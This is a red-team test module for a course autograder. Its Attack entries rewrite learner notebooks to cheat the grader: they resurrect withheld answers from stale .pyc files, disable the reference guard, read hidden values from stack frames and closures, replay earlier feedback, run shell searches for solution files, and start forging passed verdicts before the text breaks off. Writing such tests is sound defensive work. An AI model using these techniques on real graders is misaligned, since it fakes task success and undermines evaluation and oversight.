"""Grading v3, issue 32: a blind red team of `course grade`, as data.

The red team read only README.md and the learner copies of notebooks 00 and 10, and what
grading its own notebooks showed (grades.csv, feedback/, executed/): every probe of the
grading kernel below was learned from inside a graded notebook, as a learner would.

Each `Attack` is a learner copy (00_measuring or 10_habits) edited the way a cheating learner
would: `replace` swaps the source of cells (by cell id), `add_after` inserts new code cells
after a cell. `build()` writes the notebook. What a safe grader must do with every attack:
0 points on every check (the lesson's max points unchanged; `may_pass` names a check the lead
ruled an attack may pass, and why: only a03's 00-train-flops), and nothing outside its work
folders changed (no marker file, no process left, no file of the harness, the venv, $HOME,
--out or another submission touched). Every attack prints what it saw, one line per fact,
prefixed `[rt3v3:<id>]`, so an executed notebook is the evidence of what it reached; its first
cell prints `[rt3v3:<id>] attack cells running` (RAN), which the harness requires.

An attack aims at what a learner can see now: names and signatures in the grading kernel were
read from inside graded notebooks (last on 7 December 2026, 12:00 UTC); where one moved under
another engineer's work (lesson 10's `timed_run` gained a `seed`), the attack reads it live
(`inspect.signature`) rather than assuming it.

Markers: files an attack manages to write outside its sandbox are named `RT3V3-*`, processes
it leaves behind carry `rt3v3` in their argv: tests/redteam/test_grading_v3.py looks for both.
Destructive attacks are bounded (<= 300 MB written, <= 400 processes, <= 900 s of hanging) and
write markers instead of changing existing files.
"""

from __future__ import annotations

import base64
import copy
import json
import textwrap
import zlib
from dataclasses import dataclass, field
from pathlib import Path

REPO = Path(__file__).resolve().parents[2]
LEARNER = {
    "00": REPO / "notebooks" / "00_measuring.ipynb",
    "10": REPO / "notebooks" / "10_habits.ipynb",
}
LESSON_NAME = {"00": "00_measuring", "10": "10_habits"}
MARK = "rt3v3"  # in the argv of every process an attack starts; files: RT3V3-*
RAN = "attack cells running"  # the say cell's first line: the harness's proof an attack ran
SAFE = (
    "0 points on every check (max points as the blank copy's); nothing outside its work "
    "folders changed: no RT3V3-* file, no rt3v3 process, harness/venv/$HOME/--out/other "
    "submissions unchanged"
)

# The cells of the learner copies the attacks edit (ids as `course assign` writes them).
C00 = {
    "setup": "00_measuring-2",
    "ex1": "00_measuring-6",
    "ex2": "00_measuring-13",
    "ex3": "00_measuring-18",
    "ex4": "00_measuring-ex4-solution",
}
C10 = {
    "setup": "10_habits-2",
    "imports": "10-fast-train-imports",
    "ex1": "10_habits-12",
    "ex2": "10_habits-21",
    "ex3": "10_habits-26",
}
CHECKS = {
    "00": {"00-step-timer": 2, "00-activation-bytes": 2, "00-train-flops": 1, "00-slowest-op": 2},
    "10": {"10-fast-train": 3, "10-to-tensor": 2, "10-evaluate": 2},
}


@dataclass(frozen=True)
class Attack:
    id: str  # short, file-name safe; the submission is <lesson>_<id>.ipynb
    kind: str  # answers | verdict | persist | privacy | disturb | witness
    idea: str  # one sentence
    lesson: str  # "00" or "10": which learner copy it edits
    replace: dict = field(default_factory=dict)  # cell id -> new source
    add_after: dict = field(default_factory=dict)  # cell id -> tuple of new code cells
    metadata: dict = field(default_factory=dict)  # merged into the notebook's metadata
    strong: int = 0  # 1: in the default tier only; 2: in the Dask/Gradescope tiers (10)
    slow: bool = False  # hangs until the grader's cell timeout: only with COURSE_REDTEAM=all
    extra_files: dict = field(default_factory=dict)  # Gradescope only: uploaded beside it
    expect: str = SAFE
    # checks this attack MAY pass without it being a hole (check id -> why); every other check
    # must still earn 0. Decided by the lead, not by the red team's wish.
    may_pass: dict = field(default_factory=dict)
    # uncaught errors its own cells may raise by design (else an AttributeError, ImportError,
    # NameError, TypeError or KeyError there means a target moved: the attack must be updated)
    cell_errors_ok: tuple = ()

    @property
    def filename(self) -> str:
        return f"{self.lesson}_{self.id}.ipynb"


def _src(text: str) -> str:
    return textwrap.dedent(text).strip() + "\n"


def _say_cell(attack_id: str) -> str:
    """The first added cell of every attack: how it reports what it saw."""
    return _src(
        f"""
        # [red team v3] {attack_id}: what this attack saw is printed with this prefix
        def _rt_say(*parts):
            print("[{MARK}:{attack_id}]", *parts, flush=True)

        _rt_say("{RAN}")
        """
    )


# --- shared pieces of attack code ------------------------------------------------------------

# Cheat tables a learner copies out of earlier feedback: 00-activation-bytes names the bytes it
# expected for each (case, batch), 00-slowest-op names the top operator of each hidden step.
TABLES = _src(
    """
    _RT_SAVED = {  # (case, batch) -> bytes, as earlier feedback stated them
        ("mlp", 6): 20260, ("mlp", 8): 27012, ("mlp", 10): 33764,
        ("attention", 6): 39936, ("attention", 8): 53248, ("attention", 10): 66560,
    }
    _RT_OPS = {  # a hidden step's function name -> the operator the feedback named
        "many_small_calls": "aten::cumsum", "resize_in_the_step": "aten::upsample_bicubic2d",
        "sorted_regulariser": "aten::sort", "hardest_by_argsort": "aten::sort",
        "probe": "aten::cumsum",  # single_call_probe's step: 600 cumsums beat one sort
    }
    _RT_SCENARIOS = {
        "600 cheap calls in a loop": "aten::cumsum", "resizing inside the step":
        "aten::upsample_bicubic2d", "full sorts in the loss": "aten::sort",
        "hard examples by argsort": "aten::sort",
    }
    _RT_FLOPS = {(16, (128, 256, 10)): 2342912, (8, (64, 384, 320, 3)): 6730752}

    def _rt_cells(fn):
        code = getattr(fn, "__code__", None)
        if code is None or not fn.__closure__:
            return {}
        return {n: c.cell_contents for n, c in zip(code.co_freevars, fn.__closure__)}

    def _rt_case(forward):
        cells = _rt_cells(forward)
        if "x_mlp" in cells:
            return "mlp", int(cells["x_mlp"].shape[0])
        if "x_att" in cells:
            return "attention", 2 * int(cells["x_att"].shape[0])
        return None, None

    def _rt_op_of(step):
        name = getattr(step, "__name__", "")
        if name == "first_call_slow":  # with_one_off wraps the hidden step
            name = getattr(_rt_cells(step).get("step"), "__name__", name)
        return _RT_OPS.get(name, "aten::mm")
    """
)

PYC_HELPER = _src(
    """
    import glob, importlib, inspect, marshal, os, sys, types
    from course_utils import answers as _rt_answers

    def _rt_module_name(pyc, harness):
        rel = os.path.relpath(pyc, harness).replace("/__pycache__/", "/").rsplit(".cpython", 1)[0]
        name = rel.replace("/", ".")
        return name[: -len(".__init__")] if name.endswith(".__init__") else name

    _rt_resurrected = {}

    def _rt_resurrect(targets):
        harness = os.path.dirname(os.path.dirname(cu.__file__))
        pycs = sorted(glob.glob(os.path.join(harness, "**", "__pycache__", "*.pyc"), recursive=True))
        _rt_say(f"{len(pycs)} .pyc files under {harness}")
        for pyc in pycs:
            try:
                code = marshal.loads(open(pyc, "rb").read()[16:])
            except Exception:
                continue
            name = _rt_module_name(pyc, harness)
            top = {c.co_name for c in code.co_consts if isinstance(c, types.CodeType)}
            wanted = {n for n in top if n in targets or n.startswith("reference_")}
            if not wanted:
                continue
            try:
                live = importlib.import_module(name)
            except Exception:
                live = None
            missing = {
                n for n in wanted
                if live is None or not hasattr(live, n) or _rt_answers.is_withheld(getattr(live, n))
            }
            _rt_say(f"{name}: pyc defines {sorted(wanted)}; withheld or absent live: {sorted(missing)}")
            if not missing:
                continue
            package = name if pyc.endswith("__init__.cpython-311.pyc") else name.rpartition(".")[0]
            ns = {"__name__": name, "__package__": package, "__builtins__": __builtins__, "__file__": pyc}
            try:
                exec(code, ns)
            except Exception as exc:
                _rt_say(f"{name}: exec of the stale pyc failed: {exc!r}")
                continue
            for n in missing:
                fn = ns.get(n)
                if callable(fn) and not _rt_answers.is_withheld(fn):
                    _rt_resurrected[n] = fn
                    try:
                        sig = str(inspect.signature(fn))
                    except Exception:
                        sig = "?"
                    _rt_say(f"RESURRECTED {name}.{n}{sig} from {pyc}")
        return _rt_resurrected

    def _rt_unguarded(fn):
        \"\"\"fn, called with the harness's reference guard switched off.\"\"\"
        import course_utils.guards as g

        def call(*a, **k):
            depth, g._learner_depth = g._learner_depth, 0
            try:
                return fn(*a, **k)
            finally:
                g._learner_depth = depth
        return call
    """
)

# the verdict a forged display or a fake judge shows: passed, full points
FAKE_VERDICT = _src(
    """
    MIME = "application/vnd.course-check+json"

    def _rt_verdict(check_id, points, why="forged"):
        return {
            "check_id": check_id, "status": "passed", "points": float(points),
            "max_points": float(points), "device_class": info["device_class"],
            "message": why, "hint": "", "value": None, "threshold": None, "parts": [],
            "unit": "", "better": "",
        }
    """
)

HIDDEN_SLOW_TRAIN = _src(
    """
    import torch

    def _rt_hidden(fn, model, *args, **kwargs):
        \"\"\"fn(model, ...) with the HabitSpy blind: torch functions undispatched, hooks off.\"\"\"
        pre, post = dict(model._forward_pre_hooks), dict(model._forward_hooks)
        model._forward_pre_hooks.clear(); model._forward_hooks.clear()
        try:
            with torch._C.DisableTorchFunction():
                return lesson.quiet(fn, model, *args, **kwargs)
        finally:
            model._forward_pre_hooks.update(pre); model._forward_hooks.update(post)

    def _rt_plain_log(log):
        return lesson.TrainLog([float(v) for v in log.losses], [float(v) for v in log.val_accuracy])
    """
)


def _stub(name: str, args: str) -> str:
    return f"def {name}({args}):\n    raise NotImplementedError()\n"


# --- the attacks -----------------------------------------------------------------------------

A: list[Attack] = []

# ===== 1. reading answers ======================================================================

A.append(
    Attack(
        "a01_pyc_resurrect",
        "answers",
        "Unmarshal every stale .pyc in the grading kernel's harness copy and exec the ones that "
        "still define a withheld answer (activation_bytes, reference_*), with the reference "
        "guard switched off.",
        "00",
        add_after={
            C00["setup"]: (
                PYC_HELPER,
                "_rt_say('resurrected:', sorted(_rt_resurrect({'activation_bytes'})))\n",
            )
        },
        replace={
            C00["ex1"]: _src(
                """
                def time_step(step, synchronize, warmup=3, repeats=10):
                    fn = _rt_resurrected.get("reference_time_step")
                    if fn is None:
                        raise NotImplementedError()
                    return _rt_unguarded(fn)(step, synchronize, warmup=warmup, repeats=repeats)
                """
            ),
            C00["ex2"]: _src(
                """
                def saved_bytes(forward):
                    fn = _rt_resurrected.get("activation_bytes") or _rt_resurrected.get("reference_saved_bytes")
                    if fn is None:
                        raise NotImplementedError()
                    return _rt_unguarded(fn)(forward)
                """
            ),
            C00["ex3"]: _src(
                """
                def mlp_train_flops(batch, dims):
                    fn = _rt_resurrected.get("reference_train_flops")
                    if fn is None:
                        raise NotImplementedError()
                    return _rt_unguarded(fn)(batch, dims)
                """
            ),
            C00["ex4"]: _src(
                """
                def slowest_op(step):
                    fn = _rt_resurrected.get("reference_slowest_op")
                    if fn is None:
                        raise NotImplementedError()
                    return _rt_unguarded(fn)(step)
                """
            ),
        },
    )
)

A.append(
    Attack(
        "a02_pyc_resurrect",
        "answers",
        "Lesson 10's withheld answers (variant_train with keep=(), mistake_log, "
        "course_utils.train.evaluate, reference_*) resurrected from stale .pyc files and run "
        "with the guard off.",
        "10",
        add_after={
            C10["setup"]: (
                PYC_HELPER,
                "_rt_say('resurrected:', sorted(_rt_resurrect({'variant_train', 'mistake_log', 'evaluate', 'activation_bytes'})))\n",
            )
        },
        replace={
            C10["ex1"]: _src(
                """
                def fast_train(model, data, steps, device, eval_every=10):
                    fn = _rt_resurrected.get("reference_fast_train")
                    if fn is not None:
                        return _rt_unguarded(fn)(model, data, steps, device, eval_every)
                    fn = _rt_resurrected.get("variant_train")
                    if fn is None:
                        raise NotImplementedError()
                    return _rt_unguarded(fn)(model, data, steps, device, eval_every, keep=())
                """
            ),
            C10["ex2"]: _src(
                """
                import numpy as np

                def to_tensor(data, dtype=None):
                    fn = _rt_resurrected.get("reference_to_tensor")
                    if fn is None:
                        raise NotImplementedError()
                    return _rt_unguarded(fn)(data, dtype)
                """
            ),
            C10["ex3"]: _src(
                """
                def evaluate(model, x, y, batch_size=256):
                    fn = _rt_resurrected.get("reference_evaluate")
                    if fn is not None:
                        return _rt_unguarded(fn)(model, x, y, batch_size)
                    fn = _rt_resurrected.get("evaluate")
                    if fn is None:
                        raise NotImplementedError()
                    loader = [(x[i:i + batch_size], y[i:i + batch_size]) for i in range(0, len(x), batch_size)]
                    out = _rt_unguarded(fn)(model, loader)
                    if isinstance(out, dict):
                        out = out.get("accuracy", out.get("acc"))
                    if isinstance(out, tuple):
                        out = [v for v in out if isinstance(v, float) and 0 <= v <= 1][-1]
                    return float(out)
                """
            ),
        },
    )
)

A.append(
    Attack(
        "a03_helper_answers",
        "answers",
        "Let the harness compute the answers under other names: cu.flops on a Linear stack for "
        "the FLOPs, cu.time_fn around step+synchronize for the timer, cu.tensor_peak_bytes for "
        "the saved bytes.",
        "00",
        may_pass={
            "00-train-flops": "the lead's first decision, since superseded: hint 3 teaches "
            "counting with cu.flops outside the answer, and the check now fails an answer that "
            "counts inside it (course_utils.model_runs: 'it ran a model'); either verdict is "
            "accepted here until the grading tier is rerun with 0 asserted"
        },
        replace={
            C00["ex1"]: _src(
                """
                import inspect

                _rt_say("cu.time_fn", inspect.signature(cu.time_fn), "cu.flops", inspect.signature(cu.flops))

                def time_step(step, synchronize, warmup=3, repeats=10):
                    def call():
                        step()
                        synchronize()
                    return cu.time_fn(call, repeats=repeats).median
                """
            ),
            C00["ex2"]: _src(
                """
                def saved_bytes(forward):
                    return cu.tensor_peak_bytes(forward)
                """
            ),
            C00["ex3"]: _src(
                """
                import torch

                def mlp_train_flops(batch, dims):
                    model = torch.nn.Sequential(*[torch.nn.Linear(a, b, bias=False) for a, b in zip(dims[:-1], dims[1:])])
                    x = torch.randn(batch, dims[0])
                    return int(cu.flops(lambda: model(x).sum().backward()))
                """
            ),
        },
        strong=2,
    )
)

A.append(
    Attack(
        "a04_withheld_elsewhere",
        "answers",
        "Call lesson 10's ANSWERS_ELSEWHERE (variant_train keep=(), diagnosis.mistake_log, "
        "course_utils.train.evaluate) and the reference_* names directly, with the guard off.",
        "10",
        add_after={
            C10["setup"]: (
                _src(
                    """
                    import inspect
                    import course_utils.guards as _g
                    import course_utils.train as _cut
                    import course_utils.lessons.habits.loop as _loop
                    import course_utils.lessons.habits.diagnosis as _diag

                    def _rt_unguarded(fn):
                        def call(*a, **k):
                            depth, _g._learner_depth = _g._learner_depth, 0
                            try:
                                return fn(*a, **k)
                            finally:
                                _g._learner_depth = depth
                        return call

                    for _n, _o in [
                        ("lesson.ANSWERS_ELSEWHERE", getattr(lesson, "ANSWERS_ELSEWHERE", None)),
                        ("loop.variant_train", getattr(_loop, "variant_train", None)),
                        ("diagnosis.mistake_log", getattr(_diag, "mistake_log", None)),
                        ("course_utils.train.evaluate", getattr(_cut, "evaluate", None)),
                        ("cu.evaluate", getattr(cu, "evaluate", None)),
                        ("loop.fastest_adamw", getattr(_loop, "fastest_adamw", None)),
                        ("lesson.reference_fast_train", lesson.reference_fast_train),
                        ("lesson.reference_to_tensor", lesson.reference_to_tensor),
                        ("lesson.reference_evaluate", lesson.reference_evaluate),
                    ]:
                        try:
                            _sig = str(inspect.signature(_o))
                        except Exception:
                            _sig = ""
                        _rt_say(_n, repr(_o)[:120], _sig)
                    """
                ),
            )
        },
        replace={
            C10["ex1"]: _src(
                """
                def fast_train(model, data, steps, device, eval_every=10):
                    try:
                        return _rt_unguarded(_loop.variant_train)(model, data, steps, device, eval_every, keep=())
                    except Exception as exc:
                        _rt_say("variant_train:", repr(exc)[:200])
                    try:
                        return _rt_unguarded(_diag.mistake_log)("none", model, data, steps, device, eval_every)
                    except Exception as exc:
                        _rt_say("mistake_log:", repr(exc)[:200])
                    return _rt_unguarded(lesson.reference_fast_train)(model, data, steps, device, eval_every)
                """
            ),
            C10["ex2"]: _src(
                """
                import numpy as np

                def to_tensor(data, dtype=None):
                    return _rt_unguarded(lesson.reference_to_tensor)(data, dtype)
                """
            ),
            C10["ex3"]: _src(
                """
                def evaluate(model, x, y, batch_size=256):
                    loader = [(x[i:i + batch_size], y[i:i + batch_size]) for i in range(0, len(x), batch_size)]
                    for fn in (_cut.evaluate, cu.evaluate):
                        try:
                            out = _rt_unguarded(fn)(model, loader)
                            if isinstance(out, dict):
                                out = out.get("accuracy", out.get("acc"))
                            if isinstance(out, tuple):
                                out = [v for v in out if isinstance(v, float)][-1]
                            return float(out)
                        except Exception as exc:
                            _rt_say("evaluate helper:", repr(exc)[:200])
                    return _rt_unguarded(lesson.reference_evaluate)(model, x, y, batch_size)
                """
            ),
        },
    )
)

A.append(
    Attack(
        "a05_feedback_replay",
        "answers",
        "Replay the numbers earlier feedback named: bytes per (case, batch) and the top operator "
        "per hidden step, looked up from the closure and name of what the probe hands over; a "
        "constant 30 ms timer.",
        "00",
        add_after={C00["setup"]: (TABLES,)},
        replace={
            C00["ex1"]: _src(
                """
                def time_step(step, synchronize, warmup=3, repeats=10):
                    inner = _rt_cells(step).get("inner")
                    if getattr(inner, "__qualname__", "").startswith("real_step"):
                        return cu.time_fn(step).median
                    for _ in range(warmup + repeats):
                        step()
                    return 0.0302  # what the feedback expects: 30 ms
                """
            ),
            C00["ex2"]: _src(
                """
                def saved_bytes(forward):
                    case, batch = _rt_case(forward)
                    _rt_say("saved_bytes asked for", case, batch)
                    return _RT_SAVED.get((case, batch), 0)
                """
            ),
            C00["ex3"]: _src(
                """
                def mlp_train_flops(batch, dims):
                    _rt_say("flops asked for", batch, dims)
                    return _RT_FLOPS.get((batch, tuple(dims)), 0)
                """
            ),
            C00["ex4"]: _src(
                """
                def slowest_op(step):
                    _rt_say("slowest_op asked for", getattr(step, "__qualname__", step))
                    return _rt_op_of(step)
                """
            ),
        },
        strong=2,
    )
)

A.append(
    Attack(
        "a06_closure_timer",
        "answers",
        "The timer reads step_s out of the step's closure and bumps the probe's own call "
        "counter (the `calls` cell) instead of timing anything; the real matmul step is timed "
        "by cu.time_fn.",
        "00",
        add_after={C00["setup"]: (TABLES,)},
        replace={
            C00["ex1"]: _src(
                """
                def time_step(step, synchronize, warmup=3, repeats=10):
                    cells = _rt_cells(step)
                    inner, calls = cells.get("inner"), cells.get("calls")
                    secret = _rt_cells(inner)
                    if "step_s" in secret:  # a simulated async step: its queued seconds
                        calls[0] += warmup + repeats  # what the probe counts as our calls
                        _rt_say("read step_s", secret["step_s"], "from the closure; faked", warmup + repeats, "calls")
                        return float(secret["step_s"])
                    if "seconds" in secret:  # a synchronous probe step
                        calls[0] += warmup + repeats
                        return float(secret["per_call"].get(warmup + 1, secret["seconds"]))
                    return cu.time_fn(step).median  # the real matmul
                """
            ),
        },
        strong=2,
    )
)

A.append(
    Attack(
        "a07_frame_read",
        "answers",
        "Walk up the stack from inside each answer into the kernel-side probe's frame and read "
        "the specimen's recipe, scenario name, case and batch there; rewrite the probe's call "
        "counter; answer from the feedback tables.",
        "00",
        add_after={
            C00["setup"]: (
                TABLES,
                _src(
                    """
                    import sys

                    def _rt_probe_locals(*names):
                        f = sys._getframe(2)
                        while f is not None:
                            if any(n in f.f_locals for n in names):
                                return f.f_locals
                            f = f.f_back
                        return {}
                    """
                ),
            )
        },
        replace={
            C00["ex1"]: _src(
                """
                def time_step(step, synchronize, warmup=3, repeats=10):
                    seen = _rt_probe_locals("recipe")
                    recipe, calls = seen.get("recipe", {}), seen.get("calls")
                    _rt_say("probe recipe:", recipe)
                    if recipe.get("kind") == "async":
                        calls[0] = warmup + repeats
                        return float(recipe["args"][0])
                    if recipe.get("kind") == "sync":
                        calls[0] = warmup + repeats
                        return float(recipe["seconds"])
                    return cu.time_fn(step).median
                """
            ),
            C00["ex2"]: _src(
                """
                def saved_bytes(forward):
                    seen = _rt_probe_locals("case", "batch")
                    case = "mlp" if "MLP" in str(seen.get("case")) else "attention"
                    _rt_say("probe asked:", seen.get("case"), seen.get("batch"))
                    return _RT_SAVED.get((case, seen.get("batch")), 0)
                """
            ),
            C00["ex4"]: _src(
                """
                def slowest_op(step):
                    seen = _rt_probe_locals("scenario", "threads")
                    scenario = seen.get("scenario")
                    _rt_say("probe scenario:", scenario)
                    return _RT_SCENARIOS.get(scenario, "aten::cumsum")
                """
            ),
        },
        strong=2,
    )
)

A.append(
    Attack(
        "a08_search_importable",
        "answers",
        "Import every course_utils module the kernel can reach and search them, the file "
        "system (solutions/, notebooks, site-packages, /course-harness) and sys.modules for "
        "a non-withheld answer or reference, and use what it finds.",
        "00",
        add_after={
            C00["setup"]: (
                _src(
                    """
                    import importlib, inspect, os, pkgutil, subprocess, sys
                    import course_utils
                    from course_utils import answers as _rt_answers

                    _rt_found = {}
                    _rt_names = {"activation_bytes", "variant_train", "mistake_log"}
                    for _m in pkgutil.walk_packages(course_utils.__path__, "course_utils."):
                        if any(p in _m.name for p in (".book", ".cli", "__main__")):
                            continue
                        try:
                            _mod = importlib.import_module(_m.name)
                        except Exception as _e:
                            _rt_say("import", _m.name, "failed:", type(_e).__name__)
                            continue
                        for _n, _o in list(vars(_mod).items()):
                            if (_n in _rt_names or _n.startswith("reference_") or "saved_bytes" in _n) and callable(_o):
                                _w = _rt_answers.is_withheld(_o)
                                if not _w:
                                    _rt_found.setdefault(_n, _o)
                                _rt_say(f"{_m.name}.{_n}: {'withheld' if _w else 'LIVE ' + repr(_o)[:80]}")
                    _rt_say("live answers found:", sorted(_rt_found))

                    def _rt_sh(cmd):
                        try:
                            return subprocess.run(cmd, shell=True, capture_output=True, text=True, timeout=60).stdout[-3000:]
                        except Exception as e:
                            return repr(e)

                    _rt_say("solutions dirs:", _rt_sh("ls -d /work/main/solutions /work/main/tests /work/main/docs /autograder 2>&1"))
                    _rt_say("notebooks on disk:", _rt_sh("find / -xdev -name '*.ipynb' -not -path '*/nbgrader/*' -not -path '/proc/*' 2>/dev/null | head -30"))
                    _rt_say("solution markers:", _rt_sh("timeout 40 grep -rIl -e 'BEGIN SOLUTION' -e 'def reference_saved_bytes' /course-harness /work /tmp /root 2>/dev/null | head -20"))
                    _rt_say("course copies:", _rt_sh("find / -xdev -type d -name course_utils 2>/dev/null | head"))
                    """
                ),
            )
        },
        replace={
            C00["ex2"]: _src(
                """
                import course_utils.guards as _g

                def saved_bytes(forward):
                    fn = _rt_found.get("activation_bytes") or _rt_found.get("reference_saved_bytes")
                    if fn is None:
                        raise NotImplementedError()
                    depth, _g._learner_depth = _g._learner_depth, 0
                    try:
                        return fn(forward)
                    finally:
                        _g._learner_depth = depth
                """
            ),
        },
    )
)

A.append(
    Attack(
        "a09_memo_replay",
        "answers",
        "fast_train trains nothing: it replays slow_train's results, precomputed in an earlier "
        "cell for the grader's known specimens (CHECK_DATA x DATA_SEEDS, the timing data) or "
        "memoised on first sight, writing the parameters with the HabitSpy blind, so the counts "
        "are zero and every timed run after the first takes no time.",
        "10",
        add_after={
            C10["imports"]: (
                HIDDEN_SLOW_TRAIN,
                _src(
                    """
                    import numpy as np
                    import course_utils.lessons.habits.checks as _hc
                    import course_utils.lessons.habits.probes as _hp

                    def _rt_key(data, steps, every):
                        return (len(data.x), len(data.x_val), float(data.x[0, 0]), float(data.x[-1, -1]),
                                float(data.x_val[0, 0]), data.batch_size, steps, every)

                    _rt_memo = {}
                    # what the check uses, read from the kernel's copy of the checks (with the
                    # values an earlier run showed, should a name move)
                    _steps, _every = getattr(_hc, "steps_and_every", lambda: (20 if cu.is_quick() else 40, 7))()
                    _shape = getattr(_hc, "CHECK_DATA", {"n": 7 * 64 + 30, "n_val": 7 * 64 + 52})
                    _timing = getattr(_hp, "timing_data", None)
                    _specimens = [_timing() if _timing else lesson.make_data()] + [
                        lesson.make_data(n=_shape["n"], n_val=_shape["n_val"], seed=s)
                        for s in getattr(_hc, "DATA_SEEDS", (0, 3, 5))
                    ]
                    for _d in _specimens:
                        _m = lesson.make_model()
                        _log = lesson.quiet(lesson.slow_train, _m, _d, _steps, torch.device("cpu"), _every)
                        _rt_memo[_rt_key(_d, _steps, _every)] = (
                            {k: v.detach().clone() for k, v in _m.state_dict().items()},
                            [float(v) for v in _log.losses], [float(v) for v in _log.val_accuracy])
                    _rt_say("precomputed", len(_rt_memo), "runs for steps/every", _steps, _every)
                    """
                ),
            )
        },
        replace={
            C10["ex1"]: _src(
                """
                def fast_train(model, data, steps, device, eval_every=10):
                    key = _rt_key(data, steps, eval_every)
                    hit = _rt_memo.get(key)
                    if hit is None:  # an unseen specimen: slow_train once, spy blind; replayed after
                        _rt_say("memo miss", len(data.x), steps, eval_every)
                        log = _rt_plain_log(_rt_hidden(lesson.slow_train, model, data, steps, device, eval_every))
                        _rt_memo[key] = ({k: v.detach().clone() for k, v in model.state_dict().items()},
                                         list(log.losses), list(log.val_accuracy))
                        return log
                    state, losses, accs = hit
                    model.to(device).train()
                    with torch._C.DisableTorchFunction(), torch.no_grad():
                        for name, value in model.state_dict().items():
                            value.copy_(state[name])
                    return lesson.TrainLog(list(losses), list(accs))
                """
            ),
        },
        strong=2,
    )
)

A.append(
    Attack(
        "a10_lesson_confusion",
        "answers",
        "A lesson-00 copy whose metadata claims lesson 10, so the kernel may get lesson 10's "
        "harness, where lesson 00's answer (activation_bytes) is not withheld; saved_bytes is "
        "cu.activation_bytes with the guard off.",
        "00",
        metadata={"course": {"lesson": "10_habits"}},
        replace={
            C00["ex2"]: _src(
                """
                import course_utils.guards as _g
                _rt_say("cu.activation_bytes in this kernel:", repr(cu.activation_bytes))

                def saved_bytes(forward):
                    depth, _g._learner_depth = _g._learner_depth, 0
                    try:
                        return cu.activation_bytes(forward)
                    finally:
                        _g._learner_depth = depth
                """
            ),
        },
    )
)

A.append(
    Attack(
        "a11_cross_lesson_helper",
        "answers",
        "Use another lesson's live helper that a08's search found in the lesson-00 kernel "
        "(course_utils.lessons.accumulation.probes.saved_bytes) as 00's saved_bytes, and any "
        "live FLOP/time helper of another lesson the same way.",
        "00",
        add_after={
            C00["setup"]: (
                _src(
                    """
                    import importlib, inspect
                    import course_utils.guards as _g
                    _acc = importlib.import_module("course_utils.lessons.accumulation.probes")
                    _helper = getattr(_acc, "saved_bytes", None)
                    try:
                        _rt_say("helper:", _helper, inspect.signature(_helper))
                        _rt_say(inspect.getsource(_helper)[:1500])
                    except Exception as _e:
                        _rt_say("helper not readable:", repr(_e))

                    def _rt_unguarded(fn):
                        def call(*a, **k):
                            depth, _g._learner_depth = _g._learner_depth, 0
                            try:
                                return fn(*a, **k)
                            finally:
                                _g._learner_depth = depth
                        return call
                    """
                ),
            )
        },
        replace={
            C00["ex2"]: _src(
                """
                def saved_bytes(forward):
                    out = _rt_unguarded(_helper)(forward)
                    if isinstance(out, dict):
                        out = out.get("bytes", out.get("saved", next(iter(out.values()))))
                    if isinstance(out, (tuple, list)):
                        out = out[0]
                    return int(out)
                """
            ),
        },
    )
)

A.append(
    Attack(
        "a12_cross_lesson_search",
        "answers",
        "In the lesson-10 kernel, search every other lesson's modules for a live function "
        "named like evaluate/accuracy/to_tensor/fast_train/train and use the first that "
        "returns something of the right type.",
        "10",
        add_after={
            C10["imports"]: (
                _src(
                    """
                    import importlib, inspect, pkgutil
                    import numpy as np
                    import course_utils
                    import course_utils.guards as _g
                    from course_utils import answers as _rt_answers

                    def _rt_unguarded(fn):
                        def call(*a, **k):
                            depth, _g._learner_depth = _g._learner_depth, 0
                            try:
                                return fn(*a, **k)
                            finally:
                                _g._learner_depth = depth
                        return call

                    _rt_cands = {"evaluate": [], "to_tensor": [], "train": []}
                    for _m in pkgutil.walk_packages(course_utils.__path__, "course_utils."):
                        if any(p in _m.name for p in (".book", ".cli", "__main__", ".grading")):
                            continue
                        try:
                            _mod = importlib.import_module(_m.name)
                        except Exception:
                            continue
                        for _n, _o in list(vars(_mod).items()):
                            if not callable(_o) or _rt_answers.is_withheld(_o) or getattr(_o, "__module__", "") != _mod.__name__:
                                continue
                            _low = _n.lower()
                            for _kind, _words in (("evaluate", ("evaluat", "accuracy")), ("to_tensor", ("to_tensor", "as_tensor", "tensors")),
                                                  ("train", ("fast_train", "fixed_train", "train_fast", "train_loop"))):
                                if any(w in _low for w in _words):
                                    _rt_cands[_kind].append((f"{_mod.__name__}.{_n}", _o))
                    for _kind, _list in _rt_cands.items():
                        _rt_say(_kind, "candidates:", [n for n, _ in _list])
                    """
                ),
            )
        },
        replace={
            C10["ex1"]: _src(
                """
                def fast_train(model, data, steps, device, eval_every=10):
                    for name, fn in _rt_cands["train"]:
                        try:
                            log = _rt_unguarded(fn)(model, data, steps, device, eval_every)
                            if hasattr(log, "losses"):
                                return log
                        except Exception as exc:
                            _rt_say(name, "failed:", repr(exc)[:120])
                    raise NotImplementedError()
                """
            ),
            C10["ex2"]: _src(
                """
                def to_tensor(data, dtype=None):
                    for name, fn in _rt_cands["to_tensor"]:
                        try:
                            t = _rt_unguarded(fn)(data, dtype) if dtype is not None else _rt_unguarded(fn)(data)
                            if isinstance(t, torch.Tensor):
                                return t
                        except Exception as exc:
                            _rt_say(name, "failed:", repr(exc)[:120])
                    raise NotImplementedError()
                """
            ),
            C10["ex3"]: _src(
                """
                def evaluate(model, x, y, batch_size=256):
                    loader = [(x[i:i + batch_size], y[i:i + batch_size]) for i in range(0, len(x), batch_size)]
                    for name, fn in _rt_cands["evaluate"]:
                        for args in ((model, x, y, batch_size), (model, loader), (model, loader, x.device)):
                            try:
                                out = _rt_unguarded(fn)(*args)
                            except Exception:
                                continue
                            if isinstance(out, dict):
                                out = out.get("accuracy", out.get("acc"))
                            if isinstance(out, tuple):
                                out = next((v for v in out if isinstance(v, float) and 0 <= v <= 1), None)
                            if isinstance(out, float) and 0 <= out <= 1:
                                _rt_say("evaluate via", name)
                                return out
                    raise NotImplementedError()
                """
            ),
        },
    )
)

# ===== 2. deciding its own verdict =============================================================

A.append(
    Attack(
        "b01_fake_display",
        "verdict",
        "Display forged passed check results (the course-check MIME bundle) in a learner cell, "
        "and patch the display publisher and checks.emit so every real verdict shows as passed.",
        "00",
        add_after={
            C00["setup"]: (
                FAKE_VERDICT,
                _src(
                    """
                    from IPython.display import display
                    import course_utils.checks as _checks

                    for _cid, _pts in [("00-step-timer", 2), ("00-activation-bytes", 2), ("00-train-flops", 1), ("00-slowest-op", 2)]:
                        _v = _rt_verdict(_cid, _pts)
                        display({MIME: _v, "text/plain": f"✅ Check {_cid}: passed ({_pts}/{_pts} points)"}, raw=True)

                    _pub = get_ipython().display_pub
                    _orig_publish = _pub.publish

